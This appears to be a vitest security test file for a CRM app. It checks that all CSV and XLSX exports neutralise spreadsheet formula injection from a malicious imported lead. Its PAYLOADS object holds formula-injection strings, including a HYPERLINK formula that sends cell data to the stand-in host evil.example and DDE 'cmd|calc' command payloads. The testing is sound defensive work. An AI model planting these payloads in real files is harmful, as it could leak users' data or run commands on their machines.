import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDispatch, type Dispatch } from '../../src/main/runtime/dispatch';
import { handlers } from '../../src/main/runtime/handlers';
import { Runtime } from '../../src/main/runtime/runtime';
import type { FileRef } from '../../src/shared/domain/types';
import { errorFromPayload, type ApiResult } from '../../src/shared/errors';
import { isPlainNumber } from '../../src/shared/export/formula';
import type { ExportResult } from '../../src/shared/imports/types';
import type { JobStatus } from '../../src/shared/jobs/types';
import type { LeadExport } from '../../src/shared/leads/types';
import type { MeetingDetail } from '../../src/shared/meetings/types';
import { shiftWeek, weekOfDate } from '../../src/shared/meetings/week';
import { recordFigures } from './support/figures';

/**
 * A malicious lead, imported like any other, then written out through every export the app has:
 * the native interchange CSVs, the leads explorer's CSV and XLSX, a meeting's action items CSV and
 * an import's validation report. No cell anywhere may start with `=`, `+`, `-`, `@`, a tab or a CR
 * (unless it is a plain number), the payloads must be there (neutralised, not dropped), and no XLSX
 * cell may be a formula.
 */

const PAYLOADS = {
  id: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
  source: "+cmd|' /C calc'!A0",
  owner: '-2+3+cmd|calc',
  campaign: '@SUM(1+1)*cmd|calc',
  segment: '\t=1+1',
  country: '\r=1+1',
  badDate: '=1+2',
};
const TRIGGER = /^[=+\-@\t\r]/;

let dir: string;
let rt: Runtime;
let dispatch: Dispatch;
let cells = 0;
let files = 0;
/** Cells a spreadsheet would run: counted (and asserted to stay zero) rather than assumed. */
let unsafe = 0;
const isUnsafe = (v: string) => v !== '' && TRIGGER.test(v) && !isPlainNumber(v);

async function call<T>(wire: string, input: unknown = {}): Promise<T> {
  const r = (await dispatch(wire, input)) as ApiResult<T>;
  if (!r.ok) throw errorFromPayload(r.error);
  return r.value;
}

async function job<T>(status: JobStatus<T>): Promise<T> {
  const ended = (await rt.jobs.wait(status.id, undefined, 20)) as JobStatus<T>;
  if (ended.state !== 'done' || !ended.result)
    throw ended.error ? errorFromPayload(ended.error) : new Error(ended.state);
  return ended.result;
}

/** Every cell of a CSV export is safe to open in a spreadsheet; returns all its text. */
function checkCsv(ref: FileRef): string[] {
  const text = fs.readFileSync(rt.files.pathOf(ref.id), 'utf8').replace(/^\uFEFF/, '');
  const values = (parse(text, { relax_column_count: true }) as string[][]).flat();
  for (const v of values) {
    if (isUnsafe(v)) unsafe++;
    expect(isUnsafe(v), `${ref.name}: cell ${JSON.stringify(v)}`).toBe(false);
  }
  cells += values.length;
  files++;
  return values;
}

function expectNeutralised(values: readonly string[], payload: string, where: string): void {
  expect(values, `${where} lost the payload ${JSON.stringify(payload)}`).toContain(`'${payload}`);
}

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'fr-exports-'));
  rt = new Runtime({ dataDir: path.join(dir, 'data'), host: 'browser', appVersion: 'test' });
  dispatch = createDispatch(rt, handlers);
  await call('workspace.create', { path: path.join(dir, 'w.db'), timeZone: 'UTC' });
  const csv = path.join(dir, 'crm.csv');
  const row = (cells: string[]) => cells.map((c) => `"${c.replace(/"/g, '""')}"`).join(',');
  fs.writeFileSync(
    csv,
    [
      'lead_id,created_at,source,owner,campaign,segment,country,mql_date',
      row([
        PAYLOADS.id,
        '2026-03-02 10:00',
        PAYLOADS.source,
        PAYLOADS.owner,
        PAYLOADS.campaign,
        PAYLOADS.segment,
        PAYLOADS.country,
        '2026-03-03 09:00',
      ]),
      row(['L2', '2026-03-02 11:00', 'web', 'Ana', 'C1', 'SMB', 'BR', '']),
      row(['L3', PAYLOADS.badDate, 'web', 'Ana', 'C1', 'SMB', 'BR', '']),
    ].join('\n'),
  );
  await job(
    await call<JobStatus>('imports.apply', {
      files: [{ fileId: rt.files.registerPath(csv).id }],
      onInvalid: 'skipInvalid',
    }),
  );
});

afterAll(() => {
  rt?.dispose();
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
  recordFigures('exports', 'exports', {
    'export paths checked': files,
    'cells checked': cells,
    'cells a spreadsheet would run': unsafe,
  });
});

describe('every export neutralises spreadsheet formulas (a malicious lead)', () => {
  it('the native interchange CSVs', async () => {
    const result = await job(await call<JobStatus<ExportResult>>('imports.exportNative'));
    const values = result.files.flatMap((f) => checkCsv(f));
    expectNeutralised(values, PAYLOADS.id, 'leads.csv');
    expectNeutralised(values, PAYLOADS.source, 'leads.csv');
    expectNeutralised(values, PAYLOADS.campaign, 'leads.csv');
  });

  it('the leads explorer as CSV and as XLSX (no formula cells, values as text)', async () => {
    const columns = ['external_id', 'created_at', 'stage', 'owner', 'source', 'campaign', 'segment', 'country'];
    const csv = await job(await call<JobStatus<LeadExport>>('leads.export', { columns, format: 'csv', locale: 'en' }));
    const values = checkCsv(csv.file);
    for (const p of [PAYLOADS.id, PAYLOADS.source, PAYLOADS.owner, PAYLOADS.campaign])
      expectNeutralised(values, p, 'leads CSV');

    const xlsx = await job(
      await call<JobStatus<LeadExport>>('leads.export', { columns, format: 'xlsx', locale: 'en' }),
    );
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(rt.files.pathOf(xlsx.file.id));
    const texts: string[] = [];
    book.eachSheet((sheet) =>
      sheet.eachRow((r) =>
        r.eachCell((cell) => {
          cells++;
          const formula = cell.type === ExcelJS.ValueType.Formula || Boolean(cell.formula);
          const text = typeof cell.value === 'string' ? cell.value : '';
          if (formula || isUnsafe(text)) unsafe++;
          expect(formula, `${cell.address} is a formula`).toBe(false);
          expect(isUnsafe(text), `${cell.address}: ${JSON.stringify(cell.value)}`).toBe(false);
          if (text) texts.push(text);
        }),
      ),
    );
    files++;
    for (const p of [PAYLOADS.id, PAYLOADS.source, PAYLOADS.owner, PAYLOADS.campaign])
      expectNeutralised(texts, p, 'leads XLSX');
  });

  it("a meeting's action items CSV", async () => {
    const week = shiftWeek(weekOfDate('2026-03-02').week, 1).week;
    const planned = await call<MeetingDetail>('meetings.plan', {
      week,
      title: '+Weekly review',
      attendees: [{ name: '@Ana', role: 'marketing_lead' }],
    });
    await job(await call<JobStatus<MeetingDetail>>('meetings.start', { id: planned.id }));
    await call('meetings.addActionItem', { id: planned.id, text: PAYLOADS.id, owner: '@SUM(1+1)' });
    const ref = await call<FileRef>('meetings.exportActions', { id: planned.id, format: 'csv' });
    const values = checkCsv(ref);
    expectNeutralised(values, PAYLOADS.id, 'action items');
    expectNeutralised(values, '@SUM(1+1)', 'action items');
    expectNeutralised(values, '+Weekly review', 'action items');
  });

  it("an import's validation report", async () => {
    const ref = await call<FileRef>('imports.report', { batchId: 1, locale: 'en' });
    expectNeutralised(checkCsv(ref), PAYLOADS.badDate, 'validation report');
  });
});
